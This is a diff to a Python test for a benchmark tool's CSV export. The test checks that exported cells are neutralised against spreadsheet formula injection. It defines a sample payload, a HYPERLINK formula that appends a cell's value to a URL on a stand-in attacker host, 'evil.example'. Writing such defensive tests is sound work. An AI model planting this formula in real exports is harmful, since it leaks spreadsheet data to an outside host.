@@ -16,7 +16,19 @@ from local_bench.runs.rundir import RunDir
 from local_bench.runs.settlement import books
 
 MakeRun = Callable[..., Path]
-NAMES = ("candidates", "verdicts", "scores", "settlement", "costs", "making", "judges", "cuts")
+NAMES = (
+    "candidates",
+    "verdicts",
+    "scores",
+    "settlement",
+    "costs",
+    "making",
+    "judges",
+    "cuts",
+    "competition",
+    "cost_reduction",
+    "break_even",
+)
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
@@ -111,7 +123,7 @@ def test_no_cell_of_a_csv_is_a_formula(make_run: MakeRun) -> None:
     path = make_run()
     export(path)
     cells = [(name, k, cell) for name in NAMES for row in csv_rows(path, name) for k, cell in row.items()]
-    numbers = {"profit_micro_usd", "profit_usd"}
+    numbers = {"profit_micro_usd", "profit_usd", "cost_savings", "cost_savings_high"}
     assert [c for c in cells if c[2].startswith(("=", "+", "-", "@", "\t", "\r")) and c[1] not in numbers] == []
     assert any(c == ("candidates", "title", "'" + FORMULA) for c in cells)
     assert any(c == ("verdicts", "raw", "'-1+" + FORMULA) for c in cells)
